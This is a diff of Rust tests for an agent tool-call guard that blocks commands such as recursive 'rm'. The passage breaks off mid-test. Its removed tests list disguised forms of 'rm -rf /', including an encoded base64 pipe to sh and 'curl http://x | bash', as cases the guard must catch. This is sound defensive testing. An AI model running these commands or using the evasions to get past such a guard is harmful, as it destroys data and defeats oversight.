@@ -1,7 +1,10 @@
-//! The seed plugin's decision semantics, end to end through `Engine::evaluate`: ordering,
-//! short-circuit, every filter, the block message, `onFailure`, `log`, templates, audit mode
-//! and the fields of a decision. Messages are asserted exactly (DESIGN.md, "Decision
-//! semantics").
+//! The seed plugin's decision semantics where a decision alone does not show them, end to end
+//! through `Engine::evaluate`: what `log` writes and where (targets, templates, the
+//! short-circuit's files), the notices `notify` and `notifyUser` send, retry timing, `explain`,
+//! the exit code and JSON shape of a decision, generated trace ids and the tool index.
+//! Messages are asserted exactly (DESIGN.md, "Decision semantics"). Every case that is only a
+//! policy, a point, a context and the decision's fields lives in `testdata/*.json`, run by
+//! `tests/corpus.rs`.
 
 use std::path::{Path, PathBuf};
 use std::sync::{Arc, Mutex};
@@ -103,82 +106,8 @@ fn engine_with_recorder(yaml: &str) -> (Engine, Arc<Recorder>) {
 }
 
 // ---------------------------------------------------------------------------------------------
-// Ordering, short-circuit, enabled, points
+// Short-circuit: the hooks after a block do not run
 // ---------------------------------------------------------------------------------------------
-
-#[tokio::test]
-async fn hooks_run_in_file_order() {
-    let e = engine(
-        r#"
-version: "1"
-hooks:
-  - { name: first, point: turn:tool:pre, action: block, onFailure: { action: continue, message: one } }
-  - { point: turn:tool:pre, action: block, onFailure: { action: continue, message: two } }
-  - { name: third, point: turn:tool:pre, action: block, onFailure: { action: continue, message: three } }
-"#,
-    );
-    let d = e
-        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "ls"))
-        .await;
-    assert_eq!(hooks_fired(&d), ["first", "hooks[1]", "third"]);
-    let messages: Vec<_> = d.results.iter().map(|r| r.message.as_deref()).collect();
-    assert_eq!(
-        messages,
-        [
-            Some("Action failed (continuing): one"),
-            Some("Action failed (continuing): two"),
-            Some("Action failed (continuing): three"),
-        ]
-    );
-    assert!(d.results.iter().all(|r| r.passed && r.action == "block"));
-    assert_eq!(d.decision, Verdict::Allow);
-    assert!(d.passed);
-}
-
-#[tokio::test]
-async fn higher_priority_runs_first_and_ties_keep_file_order() {
-    // Mixes hooks with and without a tool filter: they live in different indexes and must
-    // still merge into one priority order.
-    let e = engine(
-        r#"
-version: 1
-hooks:
-  - { name: a, point: turn:tool:pre, action: block, onFailure: { action: continue } }
-  - { name: b, point: turn:tool:pre, priority: 10, action: block, onFailure: { action: continue } }
-  - { name: c, point: turn:tool:pre, priority: 90, action: block, onFailure: { action: continue } }
-  - { name: d, point: turn:tool:pre, priority: 90, match: { tool: exec }, action: block, onFailure: { action: continue } }
-  - { name: e, point: turn:tool:pre, priority: -5, action: block, onFailure: { action: continue } }
-  - { name: f, point: turn:tool:pre, priority: 50, match: { tool: exec }, action: block, onFailure: { action: continue } }
-  - { name: g, point: turn:tool:pre, priority: 100, match: { tool: exec }, action: block, onFailure: { action: continue } }
-  - { name: h, point: turn:tool:pre, priority: 90, action: block, onFailure: { action: continue } }
-"#,
-    );
-    let d = e
-        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "ls"))
-        .await;
-    assert_eq!(hooks_fired(&d), ["g", "c", "d", "h", "a", "f", "b", "e"]);
-    let d = e
-        .evaluate(Point::TurnToolPre, &tool_ctx("read", "ls"))
-        .await;
-    assert_eq!(hooks_fired(&d), ["c", "h", "a", "b", "e"]);
-}
-
-#[tokio::test]
-async fn the_higher_priority_block_decides_even_when_later_in_the_file() {
-    let e = engine(
-        r#"
-version: 1
-hooks:
-  - { name: low, point: turn:pre, priority: 10, action: block, onFailure: { action: block, message: low } }
-  - { name: high, point: turn:pre, priority: 20, action: block, onFailure: { action: block, message: high } }
-"#,
-    );
-    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
-    assert_eq!(d.decision, Verdict::Block);
-    assert_eq!(d.hook.as_deref(), Some("high"));
-    assert_eq!(d.message.as_deref(), Some("high"));
-    assert_eq!(hooks_fired(&d), ["high"]);
-}
 
 #[tokio::test]
 async fn short_circuit_stops_in_the_middle_of_many_hooks() {
@@ -228,77 +157,8 @@ async fn short_circuit_stops_in_the_middle_of_many_hooks() {
     assert_eq!(lines(&after).len(), 64);
 }
 
-#[tokio::test]
-async fn disabled_hooks_never_fire() {
-    let e = engine(
-        r#"
-version: 1
-hooks:
-  - { name: disabled, point: [turn:pre, turn:tool:pre], priority: 100, enabled: false, action: block }
-  - { name: enabled, point: [turn:pre, turn:tool:pre], action: block, onFailure: { action: continue, message: ran } }
-  - { name: disabled-too, point: turn:tool:pre, match: { tool: exec }, enabled: false, action: block }
-"#,
-    );
-    for point in [Point::TurnPre, Point::TurnToolPre] {
-        let d = e.evaluate(point, &tool_ctx("exec", "rm -rf /")).await;
-        assert_eq!(d.decision, Verdict::Allow, "{point}");
-        assert_eq!(hooks_fired(&d), ["enabled"], "{point}");
-    }
-    // An explicit `enabled: true` is the default behaviour.
-    let e = engine(
-        "version: 1\nhooks:\n  - { name: x, point: turn:pre, enabled: true, action: block }\n",
-    );
-    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
-    assert_eq!(d.decision, Verdict::Block);
-}
-
-#[tokio::test]
-async fn multi_point_hooks_fire_at_each_listed_point_and_no_other() {
-    let e = engine(
-        r#"
-version: 1
-hooks:
-  - name: multi
-    point: [turn:pre, cron:pre, subagent:tool:pre, turn:pre]
-    action: block
-"#,
-    );
-    let listed = [Point::TurnPre, Point::CronPre, Point::SubagentToolPre];
-    for &point in Point::ALL {
-        let d = e.evaluate(point, &HookContext::new("s")).await;
-        if listed.contains(&point) {
-            assert_eq!(d.decision, Verdict::Block, "{point}");
-            assert_eq!(d.results.len(), 1, "a repeated point fires once: {point}");
-            // The message names the hook's points, not the point being evaluated.
-            assert_eq!(
-                d.message.as_deref(),
-                Some(
-                    "Action blocked by lifecycle hook. | Hook point: turn:pre, cron:pre, subagent:tool:pre"
-                ),
-                "{point}"
-            );
-        } else {
-            assert_eq!(d.decision, Verdict::Allow, "{point}");
-            assert!(d.results.is_empty(), "{point}");
-        }
-    }
-}
-
-#[tokio::test]
-async fn a_point_without_hooks_allows_with_no_results() {
-    let e = engine("version: 1\nhooks: []\n");
-    let d = e
-        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
-        .await;
-    assert_eq!(d.decision, Verdict::Allow);
-    assert!(d.passed);
-    assert!(d.results.is_empty());
-    assert_eq!(d.message, None);
-    assert_eq!(d.hook, None);
-}
-
 // ---------------------------------------------------------------------------------------------
-// Filters
+// Filters: explain names the one that failed
 // ---------------------------------------------------------------------------------------------
 
 /// A policy with one blocking hook at turn:tool:pre under `match`; whether `c` is blocked.
@@ -312,220 +172,6 @@ fn guard(filter: &str) -> Engine {
     engine(&format!(
         "version: 1\nhooks:\n  - name: guard\n    point: turn:tool:pre\n    match: {filter}\n    action: block\n"
     ))
-}
-
-#[tokio::test]
-async fn tool_filter_is_exact_and_case_sensitive() {
-    let e = guard("{ tool: exec }");
-    assert!(blocks(&e, &tool_ctx("exec", "ls")).await);
-    for other in ["Exec", "EXEC", "exec ", " exec", "exe", "execute", ""] {
-        assert!(!blocks(&e, &tool_ctx(other, "ls")).await, "tool {other:?}");
-    }
-    assert!(!blocks(&e, &HookContext::new("s")).await, "no tool");
-}
-
-#[tokio::test]
-async fn command_subject_is_the_first_string_argument_then_the_prompt() {
-    let e = guard(r#"{ commandPattern: "^hit$" }"#);
-    let case = |args: Option<Value>, prompt: Option<&str>| {
-        let mut c = HookContext::new("agent:main:main");
-        c.tool_name = Some("any".into());
-        c.tool_args = args.and_then(|a| a.as_object().cloned());
-        c.prompt = prompt.map(str::to_owned);
-        c
-    };
-    let expectations: Vec<(Option<Value>, Option<&str>, bool)> = vec![
-        // The seed's order: command, path, file_path, url, message.
-        (Some(json!({"path": "miss", "command": "hit"})), None, true),
-        (Some(json!({"command": "miss", "path": "hit"})), None, false),
-        (
-            Some(json!({"file_path": "miss", "path": "hit"})),
-            None,
-            true,
-        ),
-        (
-            Some(json!({"path": "miss", "file_path": "hit"})),
-            None,
-            false,
-        ),
-        (Some(json!({"url": "miss", "file_path": "hit"})), None, true),
-        (
-            Some(json!({"file_path": "miss", "url": "hit"})),
-            None,
-            false,
-        ),
-        (Some(json!({"message": "miss", "url": "hit"})), None, true),
-        (Some(json!({"url": "miss", "message": "hit"})), None, false),
-        (Some(json!({"message": "hit"})), None, true),
-        // Non-strings are skipped, not stringified.
-        (Some(json!({"command": 5, "path": "hit"})), None, true),
-        (
-            Some(json!({"command": null, "file_path": "hit"})),
-            None,
-            true,
-        ),
-        (Some(json!({"command": ["hit"], "url": "hit"})), None, true),
-        (Some(json!({"command": {"x": "hit"}})), None, false),
-        (Some(json!({"command": ["hit"]})), None, false),
-        // An empty string is a string: it is the subject.
-        (Some(json!({"command": "", "path": "hit"})), None, false),
-        // Other argument names are never the subject.
-        (
-            Some(json!({"cmd": "hit", "file": "hit", "query": "hit"})),
-            None,
-            false,
-        ),
-        // Arguments win over the prompt; without a string argument the prompt is used.
-        (Some(json!({"command": "hit"})), Some("miss"), true),
-        (Some(json!({"command": "miss"})), Some("hit"), false),
-        (Some(json!({"command": 1, "other": "x"})), Some("hit"), true),
-        (Some(json!({})), Some("hit"), true),
-        (None, Some("hit"), true),
-        (None, Some("miss"), false),
-        (None, None, false),
-    ];
-    for (args, prompt, want) in expectations {
-        let c = case(args.clone(), prompt);
-        assert_eq!(
-            blocks(&e, &c).await,
-            want,
-            "args {args:?} prompt {prompt:?}"
-        );
-    }
-}
-
-#[tokio::test]
-async fn empty_subject_matches_only_patterns_that_accept_the_empty_string() {
-    let e = guard(r#"{ commandPattern: "^$" }"#);
-    assert!(blocks(&e, &HookContext::new("s")).await);
-    assert!(blocks(&e, &ctx(json!({"sessionKey": "s", "prompt": ""}))).await);
-    assert!(blocks(&e, &ctx(json!({"sessionKey": "s", "toolArgs": {"n": 1}}))).await);
-    assert!(!blocks(&e, &ctx(json!({"sessionKey": "s", "prompt": "x"}))).await);
-    let e = guard(r#"{ commandPattern: "rm" }"#);
-    assert!(!blocks(&e, &HookContext::new("s")).await);
-}
-
-#[tokio::test]
-async fn command_pattern_is_unanchored_and_accepts_the_seed_syntax() {
-    let cases = [
-        (r"rm\\s+-rf", "sudo rm -rf /tmp", true),
-        (r"rm\\s+-rf", "rm -r f", false),
-        ("^rm", "echo rm x", false),
-        ("^rm", "rm x", true),
-        // Shell-aware: `sudo` is a wrapper, so the command it runs starts with `rm`.
-        ("^rm", "sudo rm x", true),
-        ("(?i)sudo", "SUDO ls", true),
-        ("sudo", "SUDO ls", false),
-        (r"\\d{3}", "abc123", true),
-        (r"[^/]+\\.env$", "app/prod.env", true),
-        (r"[^/]+\\.env$", "app/prod.env.bak", false),
-        (
-            r"rm\\s+(-[rRfF]{1,4}|--recursive|--force)",
-            "rm --force x",
-            true,
-        ),
-        ("curl.*\\\\|\\\\s*(ba)?sh", "curl http://x | bash", true),
-    ];
-    for (pattern, command, want) in cases {
-        let e = guard(&format!(r#"{{ commandPattern: "{pattern}" }}"#));
-        assert_eq!(
-            blocks(&e, &tool_ctx("exec", command)).await,
-            want,
-            "{pattern} on {command}"
-        );
-    }
-}
-
-#[tokio::test]
-async fn topic_filter_compares_as_strings() {
-    let with_topic = |t: Value| ctx(json!({"sessionKey": "s", "toolName": "exec", "topicId": t}));
-    let numeric = guard("{ topicId: 42 }");
-    let string = guard(r#"{ topicId: "42" }"#);
-    for e in [&numeric, &string] {
-        assert!(blocks(e, &with_topic(json!(42))).await);
-        assert!(blocks(e, &with_topic(json!("42"))).await);
-        assert!(
-            blocks(e, &with_topic(json!(42.0))).await,
-            "42.0 prints as 42"
-        );
-        assert!(!blocks(e, &with_topic(json!(420))).await);
-        assert!(!blocks(e, &with_topic(json!(4))).await);
-        assert!(!blocks(e, &with_topic(json!("042"))).await);
-        assert!(!blocks(e, &with_topic(json!(" 42"))).await);
-        assert!(!blocks(e, &with_topic(json!(42.5))).await);
-        assert!(!blocks(e, &HookContext::new("s")).await, "no topic");
-    }
-    let negative = guard(r#"{ topicId: "-100" }"#);
-    assert!(blocks(&negative, &with_topic(json!(-100))).await);
-    let leading_zero = guard(r#"{ topicId: "007" }"#);
-    assert!(blocks(&leading_zero, &with_topic(json!("007"))).await);
-    assert!(!blocks(&leading_zero, &with_topic(json!(7))).await);
-}
-
-#[tokio::test]
-async fn star_topic_needs_a_topic_present() {
-    let e = guard(r#"{ topicId: "*" }"#);
-    for t in [json!(1), json!(0), json!("abc"), json!(-5), json!("*")] {
-        let c = ctx(json!({"sessionKey": "s", "topicId": t}));
-        assert!(blocks(&e, &c).await, "topic {t}");
-    }
-    assert!(!blocks(&e, &HookContext::new("s")).await);
-    assert!(!blocks(&e, &ctx(json!({"sessionKey": "s", "topicId": null}))).await);
-}
-
-#[tokio::test]
-async fn sub_agent_filter_looks_for_subagent_between_colons() {
-    let sub = guard("{ isSubAgent: true }");
-    let main = guard("{ isSubAgent: false }");
-    for (key, is_sub) in [
-        ("agent:main:subagent:abc", true),
-        ("agent:ops:subagent:", true),
-        (":subagent:", true),
-        ("agent:main:main", false),
-        ("subagent:abc", false),
-        ("agent:main:subagent", false),
-        ("agent:main:subagents:x", false),
-        ("agent:main:SUBAGENT:x", false),
-        ("", false),
-    ] {
-        let c = HookContext::new(key);
-        assert_eq!(
-            blocks(&sub, &c).await,
-            is_sub,
-            "isSubAgent: true on {key:?}"
-        );
-        assert_eq!(
-            blocks(&main, &c).await,
-            !is_sub,
-            "isSubAgent: false on {key:?}"
-        );
-    }
-}
-
-#[tokio::test]
-async fn session_pattern_is_a_regex_on_the_session_key() {
-    let anchored = guard(r#"{ sessionPattern: "^agent:main:telegram" }"#);
-    assert!(
-        blocks(
-            &anchored,
-            &HookContext::new("agent:main:telegram:group:-100:topic:4")
-        )
-        .await
-    );
-    assert!(!blocks(&anchored, &HookContext::new("agent:ops:telegram:1")).await);
-    assert!(!blocks(&anchored, &HookContext::new("x:agent:main:telegram")).await);
-    let unanchored = guard(r#"{ sessionPattern: "telegram:group" }"#);
-    assert!(
-        blocks(
-            &unanchored,
-            &HookContext::new("agent:main:telegram:group:1")
-        )
-        .await
-    );
-    assert!(!blocks(&unanchored, &HookContext::new("agent:main:telegram:dm")).await);
-    // The session pattern never looks at the command subject.
-    let c = ctx(json!({"sessionKey": "agent:ops:x", "prompt": "agent:main:telegram"}));
-    assert!(!blocks(&anchored, &c).await);
 }
 
 #[tokio::test]
@@ -612,155 +258,6 @@ fn filter_name(f: Filter) -> &'static str {
     }
 }
 
-#[tokio::test]
-async fn a_hook_without_match_matches_everything() {
-    let e = engine("version: 1\nhooks:\n  - { name: all, point: turn:tool:pre, action: block }\n");
-    for c in [
-        HookContext::new(""),
-        tool_ctx("exec", "ls"),
-        ctx(json!({"sessionKey": "agent:x:subagent:y", "topicId": "9", "prompt": "hi"})),
-    ] {
-        assert!(blocks(&e, &c).await);
-    }
-}
-
-// ---------------------------------------------------------------------------------------------
-// The block message
-// ---------------------------------------------------------------------------------------------
-
-async fn block_message(points: &str, c: &HookContext) -> String {
-    let e = engine(&format!(
-        "version: 1\nhooks:\n  - point: {points}\n    action: block\n"
-    ));
-    let d = e.evaluate(Point::TurnToolPre, c).await;
-    assert_eq!(d.decision, Verdict::Block);
-    d.message.expect("block message")
-}
-
-#[tokio::test]
-async fn default_block_message_names_tool_command_and_every_point() {
-    assert_eq!(
-        block_message(
-            "[turn:tool:pre, subagent:tool:pre]",
-            &tool_ctx("exec", "rm -rf /")
-        )
-        .await,
-        "Action blocked by lifecycle hook. | Tool: exec | Command: rm -rf / | Hook point: turn:tool:pre, subagent:tool:pre"
-    );
-    assert_eq!(
-        block_message("turn:tool:pre", &tool_ctx("exec", "ls")).await,
-        "Action blocked by lifecycle hook. | Tool: exec | Command: ls | Hook point: turn:tool:pre"
-    );
-}
-
-#[tokio::test]
-async fn default_block_message_leaves_out_absent_tool_and_command() {
-    let expect = |middle: &str| {
-        format!("Action blocked by lifecycle hook.{middle} | Hook point: turn:tool:pre")
-    };
-    let cases = [
-        (json!({"sessionKey": "s"}), expect("")),
-        (json!({"sessionKey": "s", "toolName": ""}), expect("")),
-        (
-            json!({"sessionKey": "s", "toolName": "read"}),
-            expect(" | Tool: read"),
-        ),
-        // Only `command` is quoted, never path or the prompt.
-        (
-            json!({"sessionKey": "s", "toolName": "read", "toolArgs": {"path": "/etc/passwd"}, "prompt": "p"}),
-            expect(" | Tool: read"),
-        ),
-        // A command without a tool still shows.
-        (
-            json!({"sessionKey": "s", "toolArgs": {"command": "ls"}}),
-            expect(" | Command: ls"),
-        ),
-        // Only a truthy command shows, as the seed's JavaScript did.
-        (
-            json!({"sessionKey": "s", "toolName": "exec", "toolArgs": {"command": ""}}),
-            expect(" | Tool: exec"),
-        ),
-        (
-            json!({"sessionKey": "s", "toolName": "exec", "toolArgs": {"command": 0}}),
-            expect(" | Tool: exec"),
-        ),
-        (
-            json!({"sessionKey": "s", "toolName": "exec", "toolArgs": {"command": false}}),
-            expect(" | Tool: exec"),
-        ),
-        (
-            json!({"sessionKey": "s", "toolName": "exec", "toolArgs": {"command": null}}),
-            expect(" | Tool: exec"),
-        ),
-        (
-            json!({"sessionKey": "s", "toolName": "exec", "toolArgs": {"command": 7}}),
-            expect(" | Tool: exec | Command: 7"),
-        ),
-    ];
-    for (c, want) in cases {
-        assert_eq!(
-            block_message("turn:tool:pre", &ctx(c.clone())).await,
-            want,
-            "{c}"
-        );
-    }
-}
-
-#[tokio::test]
-async fn long_commands_are_cut_to_80_characters_and_an_ellipsis() {
-    let msg = |command: &str| {
-        format!(
-            "Action blocked by lifecycle hook. | Tool: exec | Command: {command} | Hook point: turn:tool:pre"
-        )
-    };
-    let exactly_80 = "x".repeat(80);
-    assert_eq!(
-        block_message("turn:tool:pre", &tool_ctx("exec", &exactly_80)).await,
-        msg(&exactly_80)
-    );
-    let long = format!("{}{}", "a".repeat(80), "TAIL");
-    assert_eq!(
-        block_message("turn:tool:pre", &tool_ctx("exec", &long)).await,
-        msg(&format!("{}…", "a".repeat(80)))
-    );
-    // Characters, not bytes.
-    let accents = "é".repeat(100);
-    assert_eq!(
-        block_message("turn:tool:pre", &tool_ctx("exec", &accents)).await,
-        msg(&format!("{}…", "é".repeat(80)))
-    );
-}
-
-#[tokio::test]
-async fn on_failure_message_replaces_the_default_block_message() {
-    let e = engine(
-        r#"
-version: 1
-hooks:
-  - name: rm-guard
-    point: turn:tool:pre
-    action: block
-    onFailure: { action: block, message: "Blocked: recursive rm" }
-"#,
-    );
-    let d = e
-        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
-        .await;
-    assert_eq!(d.message.as_deref(), Some("Blocked: recursive rm"));
-    assert_eq!(
-        d.results[0].message.as_deref(),
-        Some("Blocked: recursive rm")
-    );
-    // Without an action, onFailure is incomplete: rejected at load.
-    assert!(
-        config::load_str(
-            "version: 1\nhooks:\n  - { point: turn:pre, action: block, onFailure: { message: m } }\n",
-            Path::new("t.yaml"),
-        )
-        .is_err()
-    );
-}
-
 // ---------------------------------------------------------------------------------------------
 // onFailure
 // ---------------------------------------------------------------------------------------------
@@ -782,43 +279,6 @@ hooks:
     onFailure: {{ action: continue, message: later ran }}
 "#
     )
-}
-
-#[tokio::test]
-async fn block_with_on_failure_continue_passes_and_the_chain_goes_on() {
-    let e = engine(&on_failure_policy("{ action: continue }"));
-    let d = e
-        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
-        .await;
-    assert_eq!(d.decision, Verdict::Allow);
-    assert!(d.passed);
-    assert_eq!(d.message, None);
-    assert_eq!(d.hook, None);
-    assert_eq!(hooks_fired(&d), ["gate", "later"]);
-    assert!(d.results[0].passed);
-    assert!(!d.results[0].audit);
-    assert_eq!(
-        d.results[0].message.as_deref(),
-        Some(format!("Action failed (continuing): {RM_BLOCKED}").as_str())
-    );
-    assert_eq!(
-        d.results[1].message.as_deref(),
-        Some("Action failed (continuing): later ran")
-    );
-}
-
-#[tokio::test]
-async fn continue_uses_the_on_failure_message_as_the_error() {
-    let e = engine(&on_failure_policy(
-        "{ action: continue, message: \"no {tool} here\" }",
-    ));
-    let d = e
-        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
-        .await;
-    assert_eq!(
-        d.results[0].message.as_deref(),
-        Some("Action failed (continuing): no exec here")
-    );
 }
 
 #[tokio::test]
@@ -905,17 +365,6 @@ async fn retry_defaults_to_three_retries() {
         Some(format!("Action failed after 3 retries: {RM_BLOCKED}").as_str())
     );
     assert!(d.passed);
-}
-
-#[tokio::test]
-async fn on_failure_block_blocks() {
-    let e = engine(&on_failure_policy("{ action: block }"));
-    let d = e
-        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
-        .await;
-    assert_eq!(d.decision, Verdict::Block);
-    assert_eq!(d.message.as_deref(), Some(RM_BLOCKED));
-    assert_eq!(hooks_fired(&d), ["gate"]);
 }
 
 #[tokio::test]
@@ -1276,45 +725,6 @@ async fn substituted_values_cannot_move_a_log_target_out_of_its_directory() {
     assert_eq!(line["sessionKey"], "../../escape");
 }
 
-#[tokio::test]
-async fn template_variables_are_substituted_in_the_on_failure_message() {
-    let e = engine(
-        r#"
-version: 1
-hooks:
-  - point: turn:tool:pre
-    action: block
-    onFailure:
-      action: block
-      message: "{tool} blocked in topic {topicId} at {point} for {sessionKey} on {timestamp}; {unknown} {topicId"
-"#,
-    );
-    let c = ctx(json!({
-        "sessionKey": "agent:main:main",
-        "topicId": "42",
-        "toolName": "exec",
-        "timestamp": TS,
-    }));
-    let d = e.evaluate(Point::TurnToolPre, &c).await;
-    assert_eq!(
-        d.message.as_deref(),
-        Some(
-            "exec blocked in topic 42 at turn:tool:pre for agent:main:main on 2026-02-19T08:00:00.000Z; {unknown} {topicId"
-        )
-    );
-    // A substituted value is not scanned again for variables.
-    let c = ctx(
-        json!({"sessionKey": "{point}", "topicId": "{tool}", "toolName": "exec", "timestamp": TS}),
-    );
-    let d = e.evaluate(Point::TurnToolPre, &c).await;
-    assert_eq!(
-        d.message.as_deref(),
-        Some(
-            "exec blocked in topic {tool} at turn:tool:pre for {point} on 2026-02-19T08:00:00.000Z; {unknown} {topicId"
-        )
-    );
-}
-
 // ---------------------------------------------------------------------------------------------
 // Audit mode
 // ---------------------------------------------------------------------------------------------
@@ -1356,69 +766,14 @@ hooks:
     assert_eq!(json["results"][0]["audit"], true);
 }
 
-#[tokio::test]
-async fn per_hook_audit_mode_and_enforce_override() {
-    let e = engine(
-        r#"
-version: 1
-hooks:
-  - { name: trial, point: turn:pre, mode: audit, action: block, onFailure: { action: block, message: trial } }
-  - { name: real, point: turn:pre, action: block, onFailure: { action: block, message: real } }
-"#,
-    );
-    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
-    assert_eq!(d.mode, Mode::Enforce);
-    assert_eq!(d.decision, Verdict::Block);
-    assert_eq!(d.hook.as_deref(), Some("real"));
-    assert_eq!(d.message.as_deref(), Some("real"));
-    assert_eq!(hooks_fired(&d), ["trial", "real"]);
-    assert!(d.results[0].passed && d.results[0].audit);
-    assert!(!d.results[1].passed && !d.results[1].audit);
-    let json = serde_json::to_value(&d).expect("decision json");
-    assert_eq!(json["results"][0]["audit"], true);
-    assert!(
-        json["results"][1].get("audit").is_none(),
-        "audit is left out when false"
-    );
-
-    let e = engine(
-        r#"
-version: 1
-defaults: { mode: audit }
-hooks:
-  - { name: strict, point: turn:pre, mode: enforce, action: block }
-"#,
-    );
-    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
-    assert_eq!(d.decision, Verdict::Block);
-    assert!(!d.results[0].audit);
-    assert_eq!(d.mode, Mode::Audit);
-}
-
-#[tokio::test]
-async fn audit_mode_does_not_mark_passing_results() {
-    let e = engine(
-        r#"
-version: 1
-defaults: { mode: audit }
-hooks:
-  - { name: cont, point: turn:pre, action: block, onFailure: { action: continue } }
-"#,
-    );
-    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
-    assert!(d.results[0].passed);
-    assert!(
-        !d.results[0].audit,
-        "only a would-be block is an audit record"
-    );
-}
-
 // ---------------------------------------------------------------------------------------------
-// Decision fields
+// The decision's shape, generated trace ids, the tool index
 // ---------------------------------------------------------------------------------------------
 
+/// The fields the corpus compares are in `testdata/decision.json`; here, what it does not:
+/// the exit code, the fields a plain block leaves empty, key order and `durationMs`.
 #[tokio::test]
-async fn decision_fields_of_a_block() {
+async fn a_block_exits_2_and_its_json_keeps_the_seed_key_order() {
     let e = engine(
         r#"
 version: 1
@@ -1431,25 +786,10 @@ hooks:
     c.trace_id = Some("trace-from-gateway".into());
     let d = e.evaluate(Point::TurnToolPre, &c).await;
     assert_eq!(d.point, Point::TurnToolPre);
-    assert_eq!(d.decision, Verdict::Block);
-    assert!(!d.passed);
-    assert_eq!(d.message.as_deref(), Some("Blocked: recursive rm"));
-    assert_eq!(d.hook.as_deref(), Some("rm-guard"));
-    assert_eq!(d.mode, Mode::Enforce);
-    assert_eq!(d.trace_id, "trace-from-gateway");
     assert_eq!(d.exit_code(), 2);
     assert!(d.injected_context.is_empty());
     assert_eq!(d.params, None);
     assert_eq!(d.approval, None);
-    assert_eq!(d.results.len(), 2);
-    assert_eq!(
-        (
-            d.results[1].hook.as_str(),
-            d.results[1].action.as_str(),
-            d.results[1].passed
-        ),
-        ("rm-guard", "block", false)
-    );
 
     let json = serde_json::to_value(&d).expect("decision json");
     let keys: Vec<&str> = json
@@ -1475,9 +815,6 @@ hooks:
         ]
     );
     assert_eq!(json["point"], "turn:tool:pre");
-    assert_eq!(json["decision"], "block");
-    assert_eq!(json["mode"], "enforce");
-    assert_eq!(json["traceId"], "trace-from-gateway");
     let result = json["results"][1].as_object().expect("result object");
     let keys: Vec<&str> = result.keys().map(String::as_str).collect();
     assert_eq!(keys, ["hook", "action", "passed", "message", "durationMs"]);
@@ -1485,18 +822,13 @@ hooks:
 }
 
 #[tokio::test]
-async fn an_allow_has_no_message_and_exit_code_zero() {
+async fn an_allow_exits_0() {
     let e = engine(
         "version: 1\nhooks:\n  - { point: turn:pre, action: block, match: { tool: exec } }\n",
     );
     let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
     assert_eq!(d.decision, Verdict::Allow);
     assert_eq!(d.exit_code(), 0);
-    let json = serde_json::to_value(&d).expect("decision json");
-    assert_eq!(json["decision"], "allow");
-    assert_eq!(json["passed"], true);
-    assert_eq!(json["message"], Value::Null);
-    assert_eq!(json["hook"], Value::Null);
 }
 
 fn assert_generated_trace_id(id: &str, topic: &str) {
@@ -1541,173 +873,11 @@ async fn trace_id_is_generated_from_the_topic_when_absent() {
     assert_generated_trace_id(&d.trace_id, "none");
 }
 
+/// Which tools a tool list matches is in `testdata/filters.json`; here, the index.
 #[tokio::test]
-async fn command_patterns_see_what_the_shell_would_run() {
-    let e = guard(r#"{ tool: exec, commandPattern: "^rm\\s+-[a-zA-Z]*[rf]" }"#);
-    for bypass in [
-        "bash -c 'rm -rf /'",
-        "sh -lc \"rm -rf /\"",
-        "r''m -rf /",
-        "\\rm -rf /",
-        "\"rm\" -rf /",
-        "$'\\x72\\x6d' -rf /",
-        "/bin/rm -rf /",
-        "FOO=1 rm -rf /",
-        "ls; rm -rf /",
-        "true && rm -rf /",
-        "echo $(rm -rf /)",
-        "echo `rm -rf /`",
-        "sudo -u root nohup timeout 5 rm -rf /",
-        "env X=1 nice -n 5 rm -rf /",
-        "find / -exec rm -rf {} +",
-        "eval 'rm -rf /'",
-        "echo cm0gLXJmIC8= | base64 -d | sh",
-    ] {
-        assert!(blocks(&e, &tool_ctx("exec", bypass)).await, "{bypass}");
-    }
-    for fine in [
-        "ls -la",
-        "echo hello",
-        "git rm --cached x",
-        "grep -rf patterns .",
-    ] {
-        assert!(!blocks(&e, &tool_ctx("exec", fine)).await, "{fine}");
-    }
-}
-
-#[tokio::test]
-async fn a_block_names_the_command_read_where_the_line_does_not_write_it_out() {
-    let e = engine(
-        "version: 1\nhooks:\n  - { name: g, point: turn:tool:pre, match: { command: { program: rm, anyArg: '^-[a-z]*r' } }, action: block, onFailure: { action: block, message: 'No rm -r.' } }\n",
-    );
-    let message = |command: &str| {
-        let ctx = tool_ctx("exec", command);
-        let e = &e;
-        async move { e.evaluate(Point::TurnToolPre, &ctx).await.message }
-    };
-    assert_eq!(
-        message("for f in -rf; do rm $f ~; done").await.as_deref(),
-        Some("No rm -r. (hookgate read `rm -rf ~` from a for loop)")
-    );
-    assert_eq!(
-        message("bash -c 'rm -r ~'").await.as_deref(),
-        Some("No rm -r. (hookgate read `rm -r ~` run by bash)")
-    );
-    assert_eq!(message("rm -rf ~").await.as_deref(), Some("No rm -r."));
-    // A commandPattern that matches the raw text keeps the seed's message exactly.
-    let seed = engine(
-        "version: 1\nhooks:\n  - { name: g, point: turn:tool:pre, match: { commandPattern: 'rm -rf' }, action: block, onFailure: { action: block, message: 'No rm.' } }\n",
-    );
-    let d = seed
-        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "bash -c 'rm -rf ~'"))
-        .await;
-    assert_eq!(d.message.as_deref(), Some("No rm."));
-    let d = seed
-        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "x=-rf; rm $x ~"))
-        .await;
-    assert_eq!(
-        d.message.as_deref(),
-        Some("No rm. (hookgate read `rm -rf ~` with values from variables)")
-    );
-}
-
-#[tokio::test]
-async fn unparseable_commands_follow_defaults_on_unparseable() {
-    let strict = engine(
-        "version: 1\nhooks:\n  - { name: g, point: turn:tool:pre, match: { commandPattern: \"^rm\" }, action: block }\n",
-    );
-    let lenient = engine(
